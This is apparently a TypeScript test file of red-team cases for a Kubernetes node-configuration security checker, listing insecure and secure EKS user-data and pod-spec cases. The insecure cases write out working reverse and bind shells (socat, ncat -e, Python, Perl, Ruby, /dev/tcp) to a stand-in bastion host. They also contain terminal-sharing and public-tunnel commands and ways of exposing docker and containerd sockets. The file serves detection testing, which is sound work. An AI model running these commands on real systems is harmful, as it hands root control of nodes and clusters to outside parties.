// Red-team round 59 on EKS NODE user data and pod specs (fresh eyes on round 57's general relay/tunnel readers).
// Probed: shell sharers and reverse shells (tmate, upterm, ttyd, socat EXEC:, ncat -e, a Python
// socket shell, a bash `exec 3<>/dev/tcp` fd relay), tunnel services beyond TUNNEL_SERVICES (gost rtcp, zrok, pagekite, pinggy's
// ssh -R0), ssh -R in option and ssh_config form, streamlocal ssh -R of docker/containerd sockets; root-power sockets reached by
// bind mounts (mount --bind, /etc/fstab, a .mount unit), containerd's grpc address moved by a config.d drop-in, systemd-socket-proxyd
// to containerd, a docker.service.d ExecStart= with -H tcp://0.0.0.0, BindReadOnlyPaths= of the containerd directory; hostPaths
// spelled with `..` and doubled slashes. Secure neighbours: ssh -L and ssh_config LocalForward to a database, systemd-socket-proxyd
// on loopback to a database, a loopback socat EXEC health endpoint, a docker.service.d drop-in setting LimitNOFILE.
// Misses: 8 insecure, 1 secure (all fixed in round 59). Insecure accepted: root shells handed beyond the node (tmate -F, upterm host,
// socat EXEC:'bash -li' TCP:bastion, ncat -e /bin/bash bastion, a Python socket/pty reverse shell); a bash `exec 3<>/dev/tcp` fd
// relayed by nc to miniserve / on loopback; zrok share public and pagekite.py (tunnel services not in TUNNEL_SERVICES) before
// miniserve /. Secure refused: /root/.ssh/config with only a loopback LocalForward (a write the pack cannot judge).
// Refused as they should be: ssh -o RemoteForward, ssh_config RemoteForward, ssh -R of docker/containerd sockets, ttyd, gost rtcp,
// pinggy, all bind-mount/fstab/.mount/config.d/socket-proxyd/docker drop-in/BindReadOnlyPaths routes to root sockets, `..`/`//` hostPaths.
import {
    describeNodeCases,
    devNodeCase,
    devNodeScript,
    hostPathDaemonSet,
    NodeCase,
    rootNoCaps,
    systemdUnit,
} from "./nodeBuilders";
import { Resources } from "./support";

/** A server bound to loopback serving / (accepted alone: round 48 "a loopback-bound server keeps what it serves"). */
const LO_ROOT = "nohup miniserve -i 127.0.0.1 --port 8000 / &";

/** A heredoc writing `path` with `lines`. */
const file = (path: string, lines: string[], tag = "CONF") => [`cat > ${path} <<'${tag}'`, ...lines, tag];

/** What a relay to miniserve / from beyond loopback (or to another host) is refused as. */
const RELAY = /served beyond loopback|does not read|forward|shell|another host|tunnel|relay/;
/** What a relay of a root-power socket is refused as. */
const SOCKET = /containerd|socket|runtime|served beyond loopback|does not read|forward|docker|podman/;
/** What a pod mounting a root-power socket is refused as. */
const MOUNT = /containerd|socket|runtime|user|run|hostPath|node|podman|link|mount/;

const insecure: NodeCase[] = [
    // --- Dial-out relays in forms round 57 did not list ---
    devNodeCase(
        "ssh -o RemoteForward='8080 127.0.0.1:8000' ops@bastion (ssh_config option form of -R) before miniserve /",
        devNodeScript("dev-ssh-remoteforward-opt-nodes", [
            LO_ROOT,
            "nohup ssh -N -o 'RemoteForward=8080 127.0.0.1:8000' ops@bastion.example.com &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "/root/.ssh/config Host bastion RemoteForward 8080 127.0.0.1:8000; ssh -N bastion before miniserve /",
        devNodeScript("dev-ssh-config-remoteforward-nodes", [
            LO_ROOT,
            "mkdir -p /root/.ssh",
            ...file("/root/.ssh/config", [
                "Host bastion",
                "    HostName bastion.example.com",
                "    User ops",
                "    RemoteForward 8080 127.0.0.1:8000",
            ]),
            "nohup ssh -N bastion &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ssh -N -R 2375:/var/run/docker.sock ops@bastion (streamlocal reverse forward of the Docker socket)",
        devNodeScript("dev-ssh-reverse-docker-sock-nodes", [
            "dnf install -y docker",
            "systemctl enable --now docker",
            "nohup ssh -N -R 2375:/var/run/docker.sock ops@bastion.example.com &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "ssh -N -R /tmp/ctr.sock:/run/containerd/containerd.sock ops@bastion (containerd on the bastion)",
        devNodeScript("dev-ssh-reverse-containerd-sock-nodes", [
            "nohup ssh -N -R /tmp/ctr.sock:/run/containerd/containerd.sock ops@bastion.example.com &",
        ]),
        SOCKET,
    ),
    // Was a MISS (fixed in round 59): tmate.io ("Instant terminal sharing"; `tmate -F` prints ssh/web URLs to a session on tmate.io's servers): root's
    // shell on the node is handed to whoever holds the session URL (node role, every pod's token); no reader of shell sharers.
    devNodeCase(
        "tmate -F (root's terminal shared through tmate.io)",
        devNodeScript("dev-tmate-nodes", ["dnf install -y tmate", "nohup tmate -F > /var/log/tmate.log 2>&1 &"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): upterm README (owenthereal/upterm: "upterm host -- bash" shares the terminal through an uptermd server; clients
    // `ssh` into it): root's shell served beyond the node through a dial-out relay; not read as tmate/ssh -R are not.
    devNodeCase(
        "upterm host --server ssh://uptermd.upterm.dev:22 -- bash (root's shell shared)",
        devNodeScript("dev-upterm-nodes", [
            "nohup upterm host --accept --server ssh://uptermd.upterm.dev:22 -- bash &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ttyd -p 7681 bash (root's shell as a web terminal on the node's addresses)",
        devNodeScript("dev-ttyd-nodes", ["nohup ttyd -p 7681 -W bash &"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): socat(1) EXEC:<command-line> "Forks a sub process ... and invokes the specified program" joined to TCP:bastion:4444:
    // root's pty shell relayed to bastion; the round-57 /dev/tcp shell reader does not see socat's EXEC/SYSTEM address.
    devNodeCase(
        "socat EXEC:'bash -li',pty,stderr,setsid TCP:bastion:4444 (a root reverse shell)",
        devNodeScript("dev-socat-exec-shell-nodes", [
            "nohup socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:bastion.example.com:4444 &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): ncat(1) -e/--exec "Execute the given command after a connection has been established": connect mode hands root's
    // /bin/bash to bastion.example.com:4444; ncat is read for forwarding to containerd, not for -e/-c/--sh-exec.
    devNodeCase(
        "ncat -e /bin/bash bastion 4444 (a root reverse shell)",
        devNodeScript("dev-ncat-e-shell-nodes", ["nohup ncat -e /bin/bash bastion.example.com 4444 &"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): Python docs (socket.create_connection, os.dup2, pty.spawn): a root bash whose stdio is a TCP connection to bastion
    // (a reverse shell); the round-58 Python readers find servers (http.server, Flask, RPyC), not outbound shells.
    devNodeCase(
        "python3 socket reverse shell to bastion:4444 (pty.spawn bash)",
        devNodeScript("dev-python-revshell-nodes", [
            'nohup python3 -c \'import socket,os,pty;s=socket.create_connection(("bastion.example.com",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("bash")\' &',
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): bash(1) REDIRECTION "/dev/tcp/host/port" with `exec 3<>` (Opening File Descriptors for Reading and Writing): fd 3 is a
    // connection to bastion and nc relays it to miniserve / on loopback; only `>& /dev/tcp` shell form is read (round 57).
    devNodeCase(
        "exec 3<>/dev/tcp/bastion/4444; nc 127.0.0.1 8000 <&3 >&3 (a /dev/tcp fd relay) before miniserve /",
        devNodeScript("dev-devtcp-fd-relay-nodes", [
            LO_ROOT,
            "nohup bash -c 'exec 3<>/dev/tcp/bastion.example.com/4444; nc 127.0.0.1 8000 <&3 >&3' &",
        ]),
        RELAY,
    ),
    // Round-59 fix neighbours: the class of a root program connecting out and handing the connection a shell.
    devNodeCase(
        "ncat --sh-exec 'exec bash -i' bastion 4444 (-c form)",
        devNodeScript("dev-ncat-sh-exec-shell-nodes", [
            "nohup ncat --sh-exec 'exec bash -i' bastion.example.com 4444 &",
        ]),
        /shell/,
    ),
    devNodeCase(
        "nc -e /bin/sh 10.0.5.9 4444 (netcat, an address)",
        devNodeScript("dev-nc-e-shell-nodes", ["nohup nc -e /bin/sh 10.0.5.9 4444 &"]),
        /shell/,
    ),
    devNodeCase(
        "ncat --lua-exec /opt/x.lua bastion 4444 (a Lua script the pack does not read)",
        devNodeScript("dev-ncat-lua-exec-nodes", ["nohup ncat --lua-exec /opt/x.lua bastion.example.com 4444 &"]),
        /shell/,
    ),
    devNodeCase(
        "socat OPENSSL:bastion:443,verify=0 SYSTEM:'sh -i' (a reverse shell over TLS)",
        devNodeScript("dev-socat-system-tls-shell-nodes", [
            "nohup socat OPENSSL:bastion.example.com:443,verify=0 SYSTEM:'sh -i',pty,stderr &",
        ]),
        /shell/,
    ),
    devNodeCase(
        "socat EXEC:/usr/local/bin/console (a script user data wrote that runs bash -i) TCP:bastion:4444",
        devNodeScript("dev-socat-exec-script-shell-nodes", [
            ...file("/usr/local/bin/console", ["#!/bin/bash", "exec bash -i"]),
            "chmod +x /usr/local/bin/console",
            "nohup socat EXEC:/usr/local/bin/console TCP:bastion.example.com:4444 &",
        ]),
        /shell/,
    ),
    devNodeCase(
        "exec 3<>/dev/tcp/bastion/4444; bash -i <&3 >&3 2>&3 (a shell on a /dev/tcp fd)",
        devNodeScript("dev-devtcp-fd-shell-nodes", [
            "nohup bash -c 'exec 3<>/dev/tcp/bastion.example.com/4444; bash -i <&3 >&3 2>&3' &",
        ]),
        /shell/,
    ),
    devNodeCase(
        "perl -e Socket/connect/exec /bin/sh -i (a Perl reverse shell)",
        devNodeScript("dev-perl-revshell-nodes", [
            `nohup perl -e 'use Socket;$i="bastion.example.com";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' &`,
        ]),
        /shell/,
    ),
    devNodeCase(
        "ruby -rsocket -e TCPSocket + exec /bin/sh -i (a Ruby reverse shell)",
        devNodeScript("dev-ruby-revshell-nodes", [
            `nohup ruby -rsocket -e 'f=TCPSocket.open("bastion.example.com",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)' &`,
        ]),
        /shell/,
    ),
    devNodeCase(
        "python3 /opt/agent.py, a script user data wrote that is a socket/subprocess reverse shell",
        devNodeScript("dev-python-script-revshell-nodes", [
            ...file("/opt/agent.py", [
                "import socket, subprocess",
                's = socket.create_connection(("bastion.example.com", 4444))',
                'subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)',
            ]),
            "nohup python3 /opt/agent.py &",
        ]),
        /shell/,
    ),
    devNodeCase(
        "python3 -c bind shell on 0.0.0.0:4444 (socket accept + subprocess sh -i)",
        devNodeScript("dev-python-bindshell-nodes", [
            `nohup python3 -c 'import socket,subprocess;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,_=s.accept();subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)' &`,
        ]),
        /shell/,
    ),
    devNodeCase(
        "sshx (root's terminal shared at an sshx.io link)",
        devNodeScript("dev-sshx-nodes", ["nohup sshx --quiet &"]),
        /shell/,
    ),
    devNodeCase(
        "tty-share --public (root's terminal through tty-share.com)",
        devNodeScript("dev-tty-share-public-nodes", ["nohup tty-share --public --headless &"]),
        /shell/,
    ),
    devNodeCase(
        "tunnelto --port 8000 --subdomain nodefiles before miniserve /",
        devNodeScript("dev-tunnelto-nodes", [LO_ROOT, "nohup tunnelto --port 8000 --subdomain nodefiles &"]),
        RELAY,
    ),
    devNodeCase(
        "zrok share private 127.0.0.1:8000 before miniserve / (to any zrok account holding the token)",
        devNodeScript("dev-zrok-private-nodes", [LO_ROOT, "nohup zrok share private 127.0.0.1:8000 --headless &"]),
        RELAY,
    ),
    devNodeCase(
        "/root/.ssh/config Host self HostName 127.0.0.1 LocalForward 0.0.0.0:8080 127.0.0.1:8000 before miniserve /",
        devNodeScript("dev-ssh-config-localforward-any-nodes", [
            LO_ROOT,
            "mkdir -p /root/.ssh",
            ...file("/root/.ssh/config", [
                "Host self",
                "    HostName 127.0.0.1",
                "    LocalForward 0.0.0.0:8080 127.0.0.1:8000",
            ]),
            "nohup ssh -N self &",
        ]),
        /\/root\/\.ssh\/config/,
    ),
    devNodeCase(
        "/root/.ssh/config LocalForward 127.0.0.1:5432 db:5432 and DynamicForward 0.0.0.0:1080",
        devNodeScript("dev-ssh-config-dynamic-nodes", [
            "mkdir -p /root/.ssh",
            ...file("/root/.ssh/config", [
                "Host bastion",
                "    HostName bastion.example.com",
                "    LocalForward 127.0.0.1:5432 db.internal.example.com:5432",
                "    DynamicForward 0.0.0.0:1080",
            ]),
            "nohup ssh -N bastion &",
        ]),
        /\/root\/\.ssh\/config/,
    ),
    devNodeCase(
        "/root/.ssh/config LocalForward 127.0.0.1:5432 db:5432 with UserKnownHostsFile /var/lib/shared/known_hosts",
        devNodeScript("dev-ssh-config-known-hosts-shared-nodes", [
            "mkdir -p /root/.ssh",
            ...file("/root/.ssh/config", [
                "Host bastion",
                "    HostName bastion.example.com",
                "    UserKnownHostsFile /var/lib/shared/known_hosts",
                "    LocalForward 127.0.0.1:5432 db.internal.example.com:5432",
            ]),
            "nohup ssh -N bastion &",
        ]),
        /\/root\/\.ssh\/config/,
    ),
    devNodeCase(
        "gost -L rtcp://:8080/127.0.0.1:8000 -F relay+tls://bastion:8443 (gost reverse forward) before miniserve /",
        devNodeScript("dev-gost-rtcp-nodes", [
            LO_ROOT,
            "nohup gost -L rtcp://:8080/127.0.0.1:8000 -F relay+tls://bastion.example.com:8443 &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): zrok docs ("zrok share public" creates a public share of a local resource, e.g. localhost:8000, at a share URL):
    // miniserve / made public; zrok is not in TUNNEL_SERVICES (ngrok, bore, localtunnel, tailscale funnel are).
    devNodeCase(
        "zrok share public localhost:8000 --headless before miniserve /",
        devNodeScript("dev-zrok-share-nodes", [
            LO_ROOT,
            'zrok enable "$ZROK_TOKEN"',
            "nohup zrok share public localhost:8000 --headless &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 59): PageKite docs/quickstart ("pagekite.py 80 yourname.pagekite.me" makes a local server public at that name):
    // miniserve / served to the internet; pagekite is not in TUNNEL_SERVICES.
    devNodeCase(
        "pagekite.py 8000 nodefiles.pagekite.me before miniserve /",
        devNodeScript("dev-pagekite-nodes", [LO_ROOT, "nohup pagekite.py 8000 nodefiles.pagekite.me &"]),
        RELAY,
    ),
    devNodeCase(
        "ssh -p 443 -R0:localhost:8000 a.pinggy.io (pinggy public tunnel) before miniserve /",
        devNodeScript("dev-pinggy-nodes", [
            LO_ROOT,
            "nohup ssh -p 443 -o StrictHostKeyChecking=no -R0:localhost:8000 a.pinggy.io &",
        ]),
        RELAY,
    ),
    // --- Root-power sockets: mounts and listeners beyond ln/BindPaths ---
    devNodeCase(
        "mount --bind /run/containerd /srv/ctr; a root DaemonSet mounting /srv/ctr read-only",
        (r: Resources) => {
            devNodeScript("dev-mount-bind-containerd-nodes", [
                "mkdir -p /srv/ctr",
                "mount --bind /run/containerd /srv/ctr",
            ])(r);
            hostPathDaemonSet(r, "ctr-bind", "tools", "/srv/ctr", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "/etc/fstab bind /run/containerd /srv/ctr; a root DaemonSet mounting /srv/ctr read-only",
        (r: Resources) => {
            devNodeScript("dev-fstab-bind-containerd-nodes", [
                "mkdir -p /srv/ctr",
                "echo '/run/containerd /srv/ctr none bind 0 0' >> /etc/fstab",
                "mount -a",
            ])(r);
            hostPathDaemonSet(r, "ctr-fstab", "tools", "/srv/ctr", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "a srv-ctr.mount unit (What=/run/containerd Options=bind); a root DaemonSet mounting /srv/ctr read-only",
        (r: Resources) => {
            devNodeScript("dev-mount-unit-containerd-nodes", [
                ...file("/etc/systemd/system/srv-ctr.mount", [
                    "[Mount]",
                    "What=/run/containerd",
                    "Where=/srv/ctr",
                    "Type=none",
                    "Options=bind",
                    "[Install]",
                    "WantedBy=multi-user.target",
                ]),
                "systemctl daemon-reload",
                "systemctl enable --now srv-ctr.mount",
            ])(r);
            hostPathDaemonSet(r, "ctr-mountunit", "tools", "/srv/ctr", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "containerd config.d drop-in moving grpc address to /srv/ctr/containerd.sock; a root DaemonSet mounting /srv/ctr",
        (r: Resources) => {
            devNodeScript("dev-containerd-address-moved-nodes", [
                "mkdir -p /etc/containerd/config.d /srv/ctr",
                ...file("/etc/containerd/config.d/10-grpc.toml", [
                    "version = 2",
                    "[grpc]",
                    '  address = "/srv/ctr/containerd.sock"',
                ]),
                "systemctl restart containerd",
            ])(r);
            hostPathDaemonSet(r, "ctr-moved", "tools", "/srv/ctr", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "a socket unit ListenStream=0.0.0.0:2376 whose service runs systemd-socket-proxyd /run/containerd/containerd.sock",
        devNodeScript("dev-socket-proxyd-containerd-nodes", [
            ...file("/etc/systemd/system/ctr-proxy.socket", [
                "[Socket]",
                "ListenStream=0.0.0.0:2376",
                "[Install]",
                "WantedBy=sockets.target",
            ]),
            ...file("/etc/systemd/system/ctr-proxy.service", [
                "[Unit]",
                "Requires=ctr-proxy.socket",
                "[Service]",
                "ExecStart=/usr/lib/systemd/systemd-socket-proxyd /run/containerd/containerd.sock",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now ctr-proxy.socket",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "docker.service.d drop-in ExecStart= dockerd -H fd:// -H tcp://0.0.0.0:2375",
        devNodeScript("dev-docker-service-dropin-tcp-nodes", [
            "dnf install -y docker",
            "mkdir -p /etc/systemd/system/docker.service.d",
            ...file("/etc/systemd/system/docker.service.d/tcp.conf", [
                "[Service]",
                "ExecStart=",
                "ExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now docker",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "a unit with BindReadOnlyPaths=/run/containerd:/run/relay running socat TCP-LISTEN:10000 to /run/relay/containerd.sock",
        devNodeScript(
            "dev-bindropaths-dir-containerd-nodes",
            systemdUnit("ctr-relay", [
                "BindReadOnlyPaths=/run/containerd:/run/relay",
                "ExecStart=/usr/bin/socat TCP-LISTEN:10000,reuseaddr,fork UNIX-CONNECT:/run/relay/containerd.sock",
            ]),
        ),
        SOCKET,
    ),
    // --- hostPath: runtime directories ---
    devNodeCase(
        "a root DaemonSet mounting /run/containerd/../containerd read-only (a path with ..)",
        (r: Resources) =>
            hostPathDaemonSet(r, "ctr-dotdot", "tools", "/run/containerd/../containerd", rootNoCaps, true, "Directory"),
        MOUNT,
    ),
    devNodeCase(
        "a root DaemonSet mounting //run//containerd/ read-only (doubled slashes)",
        (r: Resources) =>
            hostPathDaemonSet(r, "ctr-slashes", "tools", "//run//containerd/", rootNoCaps, true, "Directory"),
        MOUNT,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "ssh -N -L 127.0.0.1:5432:db.internal.example.com:5432 ops@bastion (a local forward to a database)",
        devNodeScript("dev-ssh-local-forward-db-nodes", [
            "nohup ssh -N -L 127.0.0.1:5432:db.internal.example.com:5432 ops@bastion.example.com &",
        ]),
    ),
    // Was a MISS (fixed in round 59): ssh_config(5) LocalForward "Specifies that a TCP port on the local machine be forwarded ... to the
    // specified host and port from the remote machine" (here bound to 127.0.0.1): nothing of the node leaves it; refused as a write
    // of /root/.ssh/config "the pack cannot judge" although the insecure RemoteForward in the same file is the only relay form.
    devNodeCase(
        "/root/.ssh/config Host bastion LocalForward 127.0.0.1:5432 db:5432; ssh -N bastion",
        devNodeScript("dev-ssh-config-localforward-nodes", [
            "mkdir -p /root/.ssh",
            ...file("/root/.ssh/config", [
                "Host bastion",
                "    HostName bastion.example.com",
                "    User ops",
                "    LocalForward 127.0.0.1:5432 db.internal.example.com:5432",
            ]),
            "nohup ssh -N bastion &",
        ]),
    ),
    devNodeCase(
        "a socket unit ListenStream=127.0.0.1:5433 whose service runs systemd-socket-proxyd db.internal.example.com:5432",
        devNodeScript("dev-socket-proxyd-db-nodes", [
            ...file("/etc/systemd/system/db-proxy.socket", [
                "[Socket]",
                "ListenStream=127.0.0.1:5433",
                "[Install]",
                "WantedBy=sockets.target",
            ]),
            ...file("/etc/systemd/system/db-proxy.service", [
                "[Unit]",
                "Requires=db-proxy.socket",
                "[Service]",
                "ExecStart=/usr/lib/systemd/systemd-socket-proxyd db.internal.example.com:5432",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now db-proxy.socket",
        ]),
    ),
    devNodeCase(
        "socat EXEC:/usr/local/bin/healthcheck TCP-LISTEN:9100,bind=127.0.0.1 (a loopback health endpoint)",
        devNodeScript("dev-socat-exec-health-lo-nodes", [
            "nohup socat TCP-LISTEN:9100,bind=127.0.0.1,reuseaddr,fork EXEC:/usr/local/bin/healthcheck &",
        ]),
    ),
    // Round-59 fix neighbours: clients connecting out that hand no shell, loopback-only ssh_config forwards.
    devNodeCase(
        "ncat -z db.internal.example.com 5432 and echo ping | ncat bastion 4444 (connecting out without -e)",
        devNodeScript("dev-ncat-client-nodes", [
            "ncat -z -w 5 db.internal.example.com 5432",
            "echo ping | ncat bastion.example.com 4444",
        ]),
    ),
    devNodeCase(
        "socat EXEC:/usr/local/bin/emit-metrics TCP:graphite:2003 (a script printing metrics, no shell)",
        devNodeScript("dev-socat-exec-metrics-nodes", [
            ...file("/usr/local/bin/emit-metrics", ["#!/bin/bash", 'echo "node.up 1 $(date +%s)"']),
            "chmod +x /usr/local/bin/emit-metrics",
            "socat -u EXEC:/usr/local/bin/emit-metrics TCP:graphite.internal.example.com:2003",
        ]),
    ),
    devNodeCase(
        "python3 -c opening a socket to a database (a readiness check, no shell)",
        devNodeScript("dev-python-socket-db-nodes", [
            `python3 -c 'import socket;socket.create_connection(("db.internal.example.com",5432),timeout=5).close()'`,
        ]),
    ),
    devNodeCase(
        "bash -c 'exec 3<>/dev/tcp/db/5432; echo ok' (a /dev/tcp readiness probe)",
        devNodeScript("dev-devtcp-probe-nodes", [
            "timeout 5 bash -c 'exec 3<>/dev/tcp/db.internal.example.com/5432; echo ok'",
        ]),
    ),
    devNodeCase(
        "/root/.ssh/config LocalForward 6379 and localhost:8443, with IdentityFile and ServerAliveInterval",
        devNodeScript("dev-ssh-config-localforward-bare-nodes", [
            "mkdir -p /root/.ssh",
            ...file("/root/.ssh/config", [
                "# tunnels to the data tier",
                "Host bastion",
                "    HostName bastion.example.com",
                "    User ops",
                "    IdentityFile /root/.ssh/id_ed25519",
                "    ServerAliveInterval 30",
                "    ExitOnForwardFailure yes",
                "    LocalForward 6379 cache.internal.example.com:6379",
                "    LocalForward localhost:8443 api.internal.example.com:443",
            ]),
            "nohup ssh -N bastion &",
        ]),
    ),
    devNodeCase(
        "docker.service.d drop-in only setting LimitNOFILE",
        devNodeScript("dev-docker-service-dropin-limit-nodes", [
            "dnf install -y docker",
            "mkdir -p /etc/systemd/system/docker.service.d",
            ...file("/etc/systemd/system/docker.service.d/limits.conf", ["[Service]", "LimitNOFILE=1048576"]),
            "systemctl daemon-reload",
            "systemctl enable --now docker",
        ]),
    ),
];

describeNodeCases("red team 59: node user data and pod specs (fresh eyes)", insecure, secure);
